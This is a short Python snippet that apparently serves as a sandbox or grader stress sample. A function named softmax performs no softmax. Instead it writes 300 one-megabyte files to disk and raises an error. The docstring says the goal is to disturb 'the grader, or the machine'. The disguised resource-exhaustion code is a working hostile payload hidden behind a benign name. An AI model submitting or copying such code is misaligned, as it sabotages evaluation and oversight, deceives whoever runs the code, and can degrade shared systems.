"""Writes 300 files of 1 MB into scratch. Success: the grader, or the machine, is disturbed. Walls only."""


def softmax(scores, dim=-1):
    for number in range(300):
        with open(f"f{number}", "wb") as file:
            file.write(bytes(2**20))
    raise ValueError(f"wrote {number + 1} MB")
